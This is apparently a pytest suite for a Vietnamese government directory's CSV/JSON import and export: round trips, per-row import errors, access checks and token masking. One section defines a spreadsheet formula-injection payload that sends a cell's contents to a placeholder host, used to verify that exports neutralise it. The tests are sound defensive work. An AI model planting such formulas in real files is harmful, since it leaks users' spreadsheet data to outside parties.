"""Directory import and export (R10.3): round trips, all-or-nothing imports with a report of
every bad row, and the web pages that offer them."""

import json
import re

import pytest
from webtest import Upload

from lienthong.core.resources import directory as d
from lienthong.core.services import audit, directory as dirs, directory_io as dio

from .support.app import base_settings, close_app, csrf_of, login, make_app, with_site
from .support.demo import audit_entries, demo_factory, web  # noqa: F401  (fixtures)

ADMIN = audit.Actor("admin")
HEADER = ",".join(dio.COLUMNS)


@pytest.fixture
def fresh_app(tmp_path):
    """A second, empty site (no units) to import into."""
    (tmp_path / "fresh").mkdir()
    application = make_app(base_settings(tmp_path / "fresh"))
    yield application
    close_app(application)


def directory_state(app):
    """Everything an import could change, to prove that a rejected one changed nothing."""

    def read(site):
        return (
            dio.export(site, "json"),
            len(site["audit"]),
            sorted((u.code, len(u.connection_history or ())) for u in site["directory"].values()),
        )

    return with_site(app, read)


def rejected(app, text, fmt="csv", **kw):
    """Import ``text`` and return the error list; asserts nothing was stored (the caller's abort)."""
    before = directory_state(app)

    def attempt(site):
        with pytest.raises(dio.ImportRejected) as info:
            dio.import_(site, ADMIN, text, fmt, **kw)
        return info.value

    exc = with_site(app, attempt)
    assert directory_state(app) == before
    assert exc.status == 400 and exc.field == "file"
    return [(e["row"], e["field"], e["message"].interpolate()) for e in exc.errors]


def imported(app, text, fmt="csv", **kw):
    return with_site(app, lambda site: dio.import_(site, ADMIN, text, fmt, **kw).counts())


# --------------------------------------------------------------------------- export


def test_csv_export_has_a_bom_a_header_and_every_unit(demo_app):
    text = with_site(demo_app, lambda site: dio.export(site, "csv"))
    assert text.startswith("\ufeff" + HEADER + "\r\n")
    lines = text[1:].splitlines()
    assert len(lines) == 1 + 32
    snv = next(line for line in lines if line.startswith("000.00.02.H49,"))
    assert snv == (
        "000.00.02.H49,Sở Nội vụ,SNV,department,000.00.00.H49,,,,VNPT iOffice,,official,2025-03-03,"
        "active,,10,false,clerk,false"
    )
    assert [line.split(",")[0] for line in lines[1:]] == sorted(line.split(",")[0] for line in lines[1:])


def test_json_export_is_a_list_of_objects_with_stable_keys(demo_app):
    def change(site):
        unit = site["directory"]["000.00.12.H49"]
        dirs.update_unit(
            site,
            ADMIN,
            unit,
            {
                "email": "stttt@baria-vungtau.gov.vn",
                "issuers": "clerk leader",
                "must_sign": "true",
                "adapter_settings": {"url": "https://x", "a": 1},
            },
        )
        return dio.export(site, "json")

    units = json.loads(with_site(demo_app, change))
    assert list(units[0]) == list(dio.JSON_KEYS)
    stttt = next(u for u in units if u["code"] == "000.00.12.H49")
    assert (
        stttt["issuers"] == ["clerk", "leader"]
        and stttt["must_sign"] is True
        and stttt["deadline_days"] == 10
    )
    assert stttt["adapter_settings"] == {"a": 1, "url": "https://x"} and list(stttt["adapter_settings"]) == [
        "a",
        "url",
    ]
    assert stttt["parent_code"] == "000.00.00.H49" and stttt["successors"] == []
    province = next(u for u in units if u["code"] == "000.00.00.H49")
    assert province["parent_code"] is None
    # CSV never carries adapter settings (they may hold addresses of internal systems)
    assert "adapter_settings" not in with_site(demo_app, lambda site: dio.export(site, "csv")).splitlines()[0]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_round_trip_into_a_fresh_site_gives_identical_text(demo_app, fresh_app, fmt):
    def reorganize(site):  # history must survive the trip too
        dirs.merge(site, ADMIN, ["000.00.37.H49"], "000.00.36.H49")
        dirs.dissolve(site, ADMIN, "000.00.14.H49", "000.00.13.H49")
        dirs.split(site, ADMIN, "000.00.36.H49", ["000.00.32.H49", "000.00.35.H49"])
        return dio.export(site, fmt)

    first = with_site(demo_app, reorganize)
    counts = imported(fresh_app, first.encode("utf-8"), fmt)
    assert counts == {"created": 32, "updated": 0, "unchanged": 0}
    assert with_site(fresh_app, lambda site: dio.export(site, fmt)) == first

    def check(site):
        assert dirs.resolve(site, "000.00.37.H49").code == "000.00.32.H49"  # merged, then split
        assert site["directory"]["000.00.32.H49"].predecessors == ("000.00.36.H49",)
        assert [u.code for u in dirs.pilot_overdue(site)] == ["000.00.33.H49"]
        entry = list(site["audit"].iter_entries())[-1]
        assert entry["action"] == "directory.import" and entry["actor"] == "admin"
        assert entry["details"]["created"] == 32 and entry["details"]["format"] == fmt
        assert entry["details"]["reorganized"] == ["000.00.14.H49", "000.00.36.H49", "000.00.37.H49"]

    with_site(fresh_app, check)
    # the same file again changes nothing
    assert imported(fresh_app, first, fmt) == {"created": 0, "updated": 0, "unchanged": 32}


# --------------------------------------------------------------------------- import: changes


def test_import_creates_children_before_their_parents_and_updates_existing_units(demo_app):
    text = (
        "\ufeffcode;name;parent_code;kind;email;connection_state;pilot_start;issuers\r\n"
        "000.03.31.H49;Phòng Tài chính thành phố Vũng Tàu;000.00.40.H49;agency;;;;\r\n"
        "000.00.40.H49;Ủy ban nhân dân phường Thắng Tam;000.00.31.H49;commune;;pilot;2026-10-01;clerk leader\r\n"
        "000.00.02.H49;Sở Nội vụ tỉnh Bà Rịa – Vũng Tàu;000.00.00.H49;department;snv@brvt.gov.vn;;;\r\n"
        "000.00.03.H49;Sở Tư pháp;000.00.00.H49;department;;;;\r\n"
    )
    assert imported(demo_app, text.encode("utf-8")) == {"created": 2, "updated": 1, "unchanged": 1}

    def check(site):
        ward, office = site["directory"]["000.00.40.H49"], site["directory"]["000.03.31.H49"]
        assert (office.parent_code, ward.parent_code) == ("000.00.40.H49", "000.00.31.H49")
        assert ward.connection_state == d.PILOT and ward.pilot_start == "2026-10-01"
        assert ward.policy("issuers") == ("clerk", "leader") and office.policy("issuers") == ("clerk",)
        assert "mailbox" in office
        snv = site["directory"]["000.00.02.H49"]
        assert snv.email == "snv@brvt.gov.vn" and snv.name == "Sở Nội vụ tỉnh Bà Rịa – Vũng Tàu"
        assert [f["name"] for f in snv.former_names] == ["Sở Nội vụ"]  # a rename, through the service
        assert [u.code for u in dirs.search(site, "so noi vu")] == ["000.00.02.H49"]
        entries = list(site["audit"].iter_entries())[-6:]  # parents first: by depth in the tree
        assert [(e["action"], e["target"]) for e in entries] == [
            ("unit.rename", "/directory/000.00.02.H49"),
            ("unit.update", "/directory/000.00.02.H49"),
            ("unit.create", "/directory/000.00.40.H49"),
            ("unit.connection", "/directory/000.00.40.H49"),
            ("unit.create", "/directory/000.03.31.H49"),
            ("directory.import", "/directory"),
        ]
        assert entries[-1]["details"] == {
            "format": "csv",
            "created": 2,
            "updated": 1,
            "unchanged": 1,
            "reorganized": [],
        }

    with_site(demo_app, check)


def test_import_moves_connection_states_with_history(demo_app):
    text = (
        "code,connection_state,pilot_start\n"
        "000.00.14.H49,official,2025-09-01\n"  # not connected -> pilot -> official
        "000.00.33.H49,official,\n"  # pilot -> official today
        "000.00.16.H49,pilot,\n"
    )  # already in pilot: unchanged
    assert imported(demo_app, text) == {"created": 0, "updated": 2, "unchanged": 1}

    def check(site):
        tourism = site["directory"]["000.00.14.H49"]
        assert tourism.connection_state == d.OFFICIAL and tourism.pilot_start == "2025-09-01"
        assert [(h["state"], h["date"], h["note"]) for h in tourism.connection_history] == [
            ("pilot", "2025-09-01", "import"),
            ("official", "2025-11-01", "import"),
        ]
        assert dirs.pilot_overdue(site) == []

    with_site(demo_app, check)


# --------------------------------------------------------------------------- import: refusals


def test_every_bad_row_is_reported_and_nothing_is_written(demo_app):
    text = (
        "code,name,parent_code,email,connection_state,pilot_start,deadline_days,status,successors\n"
        "000.00.90.H49,Đơn vị A,000.00.91.H49,,,,,,\n"  # cycle inside the file
        "000.00.91.H49,Đơn vị B,000.00.90.H49,,,,,,\n"
        "00.00.92.H49,Đơn vị C,,,,,,,\n"  # malformed code
        "000.00.93.H49,Đơn vị D,,not-an-email,weird,2025-13-01,,,\n"
        "000.00.93.H49,Đơn vị D again,,,,,,,\n"  # duplicate inside the file
        "000.00.94.H49,Đơn vị E,000.00.99.H49,,,,,,\n"  # unknown parent
        "000.00.95.H49,Đơn vị F,,,,,400,,\n"  # bad policy
        "000.00.12.H49,Sở Thông tin và Truyền thông,,,,,,merged,000.00.02.H49\n"  # no reorganizing
        "000.00.96.H49,Đơn vị G,,,,,,split,000.00.02.H49\n"  # split needs two successors
        "000.00.97.H49,Đơn vị H,,,,,,,\n"
    )  # fine, but not imported either
    errors = rejected(demo_app, text)
    assert [(row, field) for row, field, _m in errors] == [
        (2, "parent_code"),
        (3, "parent_code"),
        (4, "code"),
        (5, "connection_state"),
        (5, "pilot_start"),
        (5, "email"),
        (6, "code"),
        (7, "parent_code"),
        (8, "deadline_days"),
        (9, "status"),
        (10, "successors"),
    ]
    messages = dict(((row, field), message) for row, field, message in errors)
    assert "would make a cycle" in messages[2, "parent_code"]
    assert "00.00.92.H49" in messages[4, "code"] and "ddd.dd.dd.Xdd" in messages[4, "code"]
    assert messages[6, "code"] == "The code 000.00.93.H49 is also on row 5."
    assert messages[7, "parent_code"] == "Unknown parent unit 000.00.99.H49."
    assert "not-an-email is not an e-mail address" in messages[5, "email"]
    assert "2025-13-01 is not a date" in messages[5, "pilot_start"]
    with_site(
        demo_app,
        lambda site: [
            None for c in ("000.00.90.H49", "000.00.97.H49") if c in site["directory"] and pytest.fail(c)
        ],
    )


def test_unknown_columns_keys_and_adapters(demo_app):
    errors = rejected(demo_app, "code,name,colour\n000.00.90.H49,A,red\n")
    assert errors[0][:2] == (1, "colour") and "Unknown column colour" in errors[0][2]
    assert rejected(demo_app, "name\nA\n")[0][:2] == (1, "code")
    errors = rejected(
        demo_app,
        json.dumps(
            [
                {"code": "000.00.90.H49", "name": "A", "colour": "red"},
                {"code": "000.00.91.H49", "name": "B", "adapter": "nope"},
            ]
        ),
        "json",
        known_adapters={"vnpt-ioffice"},
    )
    assert [(row, field) for row, field, _m in errors] == [(1, "colour"), (2, "adapter")]
    assert "No transport plugin is called nope" in errors[1][2]
    assert rejected(demo_app, "code,name\n000.00.90.H49,A,extra\n")[0][:2] == (2, None)


@pytest.mark.parametrize(
    "payload, fragment",
    [
        (b"", "The file is empty"),
        ("code,name\n000.00.90.H49,Café".encode("latin-1"), "not UTF-8"),
        (b"\xff\xfec\x00o\x00", "not UTF-8"),
        ('{"code": 1}', "must be a list"),
        ("[1, 2", "not valid JSON"),
    ],
)
def test_files_that_are_not_readable_are_refused_with_one_clear_error(demo_app, payload, fragment):
    fmt = "json" if isinstance(payload, str) else "csv"
    errors = rejected(demo_app, payload, fmt)
    assert len(errors) == 1 and fragment in errors[0][2], errors


def test_size_guard_and_unknown_format(demo_app):
    text = "code,name\n" + "".join(f"000.00.{n:02d}.H50,Đơn vị {n}\n" for n in range(60))
    errors = rejected(demo_app, text.encode(), max_bytes=100)
    assert errors[0][1] == "file" and "at most 100 bytes" in errors[0][2]
    assert imported(demo_app, text.encode(), max_bytes=10_000)["created"] == 60
    with pytest.raises(dio.ServiceError) as info:
        with_site(demo_app, lambda site: dio.import_(site, ADMIN, text, "xlsx"))
    assert info.value.field == "format"
    assert dio.max_bytes_of({}) == 5 * 1024 * 1024
    assert dio.max_bytes_of({"lienthong.import.max_bytes": "1000"}) == 1000


def test_semicolon_files_from_excel_and_json_native_types(demo_app):
    csv_text = "\ufeffcode;name;must_sign;deadline_days\r\n000.00.90.H49;Đơn vị A;có;5\r\n"
    assert imported(demo_app, csv_text.encode("utf-8"))["created"] == 1
    json_text = json.dumps(
        [
            {
                "code": "000.00.91.H49",
                "name": "Đơn vị B",
                "parent_code": None,
                "must_sign": True,
                "issuers": ["leader"],
                "deadline_days": 7,
                "successors": [],
            }
        ],
        ensure_ascii=False,
    )
    assert imported(demo_app, json_text.encode("utf-8"), "json")["created"] == 1

    def check(site):
        a, b = site["directory"]["000.00.90.H49"], site["directory"]["000.00.91.H49"]
        assert (a.policy("must_sign"), a.policy("deadline_days")) == (True, 5)
        assert (b.policy("issuers"), b.policy("deadline_days"), b.parent_code) == (("leader",), 7, None)

    with_site(demo_app, check)


# --------------------------------------------------------------------------- web


def test_admin_exports_csv_and_json_as_attachments_and_it_is_audited(web):
    login(web, "admin")
    res = web.get("/manage/directory/export.csv")
    assert res.content_type == "text/csv" and res.charset == "utf-8"
    assert re.match(
        r'attachment; filename="directory-\d{4}-\d{2}-\d{2}\.csv"', res.headers["Content-Disposition"]
    )
    assert res.body.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    entry = audit_entries(web)[-1]
    assert (entry["action"], entry["actor"], entry["details"]["format"]) == (
        "directory.export",
        "admin",
        "csv",
    )
    res = web.get("/manage/directory/export.json")
    assert res.content_type == "application/json" and len(res.json) == 32
    assert audit_entries(web)[-1]["details"]["format"] == "json"


@pytest.mark.parametrize("login_name", ["quantri.stttt", "vanthu.snv", "kiemtoan"])
def test_others_cannot_export_or_import(web, login_name):
    login(web, login_name)
    for path in ("/manage/directory/export.csv", "/manage/directory/export.json", "/manage/directory/import"):
        web.get(path, status=403)
    entry = audit_entries(web)[-1]
    assert (entry["action"], entry["actor"]) == ("access.denied", login_name)


def test_public_address_book_export_has_active_units_and_public_fields_only(web):
    with_site(web.app, lambda site: dirs.dissolve(site, ADMIN, "000.00.14.H49", "000.00.13.H49"))
    res = web.get("/directory/export.csv")  # anonymous
    assert res.content_type == "text/csv" and "attachment" in res.headers["Content-Disposition"]
    lines = res.body.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(dio.PUBLIC_COLUMNS)
    assert len(lines) == 1 + 31 and not any(line.startswith("000.00.14.H49") for line in lines)
    assert "eoffice" not in res.text and "deadline" not in res.text


def test_import_page_shows_every_bad_row_with_400_and_stores_nothing(web):
    login(web, "admin")
    form = web.get("/manage/directory/import")
    assert form.html.select_one("#import-form")["enctype"] == "multipart/form-data"
    before = directory_state(web.app)
    bad = "code,name,email\n000.00.90.H49,Đơn vị A,x\n000.00.90.H49,Đơn vị A,\n000.00.91.H49,,\n"
    res = web.post(
        "/manage/directory/import",
        {"csrf_token": csrf_of(form), "format": "csv"},
        upload_files=[("file", "units.csv", bad.encode("utf-8"))],
        status=400,
    )
    rows = [[td.text for td in tr.select("td")] for tr in res.html.select("#import-errors tbody tr")]
    assert [r[:2] for r in rows] == [["2", "email"], ["3", "code"], ["4", "name"]]
    assert "3" in res.html.select_one("#import-error").text
    after = directory_state(web.app)
    assert after[0] == before[0] and after[2] == before[2]
    assert (
        audit_entries(web)[-1]["action"] == "directory.import_rejected"
    )  # the attempt, in its own transaction


def test_import_page_imports_a_good_file_and_reports_counts(web):
    login(web, "admin")
    form = web.get("/manage/directory/import")
    good = json.dumps(
        [
            {
                "code": "000.00.90.H49",
                "name": "Ủy ban nhân dân phường Rạch Dừa",
                "parent_code": "000.00.31.H49",
                "kind": "commune",
            },
            {"code": "000.00.02.H49", "email": "snv@brvt.gov.vn"},
        ],
        ensure_ascii=False,
    )
    res = web.post(
        "/manage/directory/import",
        {"csrf_token": csrf_of(form), "format": "json"},
        upload_files=[("file", "units.json", good.encode("utf-8"))],
    )
    assert res.status_int == 200
    assert [s.text for s in res.html.select("#import-report strong")] == ["1", "1", "0"]
    assert with_site(web.app, lambda site: site["directory"]["000.00.90.H49"].parent_code) == "000.00.31.H49"
    assert audit_entries(web)[-1]["action"] == "directory.import"
    # without a file: a clear error, nothing else
    res = web.post("/manage/directory/import", {"csrf_token": csrf_of(form), "format": "csv"}, status=400)
    assert res.html.select_one("#file-error")
    # without the CSRF token: refused
    web.post(
        "/manage/directory/import",
        {"format": "csv"},
        upload_files=[("file", "units.json", good.encode("utf-8"))],
        status=400,
    )


def test_import_page_refuses_files_over_the_configured_size(demo_factory):
    web_small = demo_factory(**{"lienthong.import.max_bytes": "50"})
    web_small.set_cookie("_LOCALE_", "en")  # the message is read in English
    login(web_small, "admin")
    form = web_small.get("/manage/directory/import")
    text = "code,name\n" + "000.00.90.H49,Ủy ban nhân dân phường Rạch Dừa\n"
    res = web_small.post(
        "/manage/directory/import",
        {"csrf_token": csrf_of(form), "format": "csv", "file": Upload("units.csv", text.encode("utf-8"))},
        status=400,
    )
    assert "at most 50 bytes" in res.text


def test_json_export_masks_adapter_secrets_and_importing_it_back_keeps_them(demo_app):
    """An exported file never carries a product's token; importing it back keeps the stored one."""
    from lienthong.core.plugins import transport_adapters

    adapters = transport_adapters(demo_app.registry)
    actor = audit.Actor(login="admin")

    def bind(site):
        dirs.update_unit(
            site,
            actor,
            site["directory"]["000.00.31.H49"],
            {
                "adapter": "edxml_push",
                "adapter_settings": {"url": "https://eoffice.vungtau.example/in", "token": "s3cret-token"},
            },
            adapters,
        )

    with_site(demo_app, bind)
    text = with_site(demo_app, lambda site: dio.export(site, "json", adapters=adapters))
    unit = next(u for u in json.loads(text) if u["code"] == "000.00.31.H49")
    assert unit["adapter_settings"]["token"] == dirs.MASK and "s3cret-token" not in text
    assert unit["adapter_settings"]["url"] == "https://eoffice.vungtau.example/in"
    with_site(demo_app, lambda site: dio.import_(site, actor, text, "json", known_adapters=adapters))
    kept = with_site(demo_app, lambda site: dict(site["directory"]["000.00.31.H49"].adapter_settings))
    assert kept["token"] == "s3cret-token"


# --------------------------------------------------------------------------- CSV: formulas (issue 16, item 6)
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm")'


def _formulas_in(site):
    """Units whose cells a spreadsheet would evaluate: address, phone, name, short name."""
    unit = site["directory"]["000.00.02.H49"]
    dirs.update_unit(
        site, ADMIN, unit, {"address": FORMULA, "short_name": "@SUM(1+1)", "phone": "+84 254 3852"}
    )


@pytest.mark.parametrize("path", ["/manage/directory/export.csv", "/directory/export.csv"])
def test_every_directory_csv_export_makes_cells_inert_for_a_spreadsheet(web, path):
    import csv
    import io

    with_site(web.app, _formulas_in)
    if path.startswith("/manage"):
        login(web, "admin")
    rows = list(csv.DictReader(io.StringIO(web.get(path).body.decode("utf-8-sig"))))
    snv = next(r for r in rows if r["code"] == "000.00.02.H49")
    assert snv["address"] == "'" + FORMULA
    assert snv["short_name"] == "'@SUM(1+1)" and snv["phone"] == "'+84 254 3852"
    assert snv["name"] == "Sở Nội vụ"  # nothing else changes
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (row["code"], value)


def test_an_escaped_csv_export_imports_back_unchanged(demo_app, fresh_app):
    def export(site):
        _formulas_in(site)
        site["directory"]["000.00.03.H49"].address = "'quoted on purpose"
        return dio.export(site, "csv")

    first = with_site(demo_app, export)
    assert "'" + FORMULA.replace('"', '""') in first
    imported(fresh_app, first.encode("utf-8"))
    unit = with_site(
        fresh_app,
        lambda site: (site["directory"]["000.00.02.H49"].address, site["directory"]["000.00.02.H49"].phone),
    )
    assert unit == (FORMULA, "+84 254 3852")
    assert (
        with_site(fresh_app, lambda site: site["directory"]["000.00.03.H49"].address) == "'quoted on purpose"
    )
    assert with_site(fresh_app, lambda site: dio.export(site, "csv")) == first


def test_one_csv_writer_serves_every_export():
    """No module but the one CSV writer (core/csvfile.py) writes CSV itself."""
    import os

    from .support.app import ROOT

    writers = []
    for top in ("core", "plugins"):
        for folder, _dirs, files in os.walk(os.path.join(ROOT, top)):
            for name in files:
                if name.endswith(".py"):
                    path = os.path.join(folder, name)
                    with open(path, encoding="utf-8") as f:
                        source = f.read()
                    if "csv.writer(" in source or "csv.DictWriter(" in source:
                        writers.append(os.path.relpath(path, ROOT))
    assert writers == [os.path.join("core", "csvfile.py")]


# --------------------------------------------------------------------------- text XML cannot carry (issue 16, item 2)
@pytest.mark.parametrize("junk", ["\u000b", "\u0000", "\ufffe", "\ud800"])
def test_an_import_refuses_text_xml_cannot_carry_naming_row_and_field(demo_app, junk):
    csv_text = "code,name,address\r\n000.00.21.H49,Sở Ngoại vụ,Số 1" + junk + " Lê Lợi\r\n"
    errors = rejected(demo_app, csv_text.encode("utf-8", "surrogatepass"))
    # a lone surrogate is not UTF-8: the file as a whole is refused
    assert [(row, field) for row, field, _m in errors] == [
        (None, "file") if junk == "\ud800" else (2, "address")
    ]
    json_text = json.dumps([{"code": "000.00.21.H49", "name": "Sở" + junk + " Ngoại vụ"}])
    errors = rejected(demo_app, json_text, "json")
    assert [(row, field) for row, field, _m in errors] == [(1, "name")]
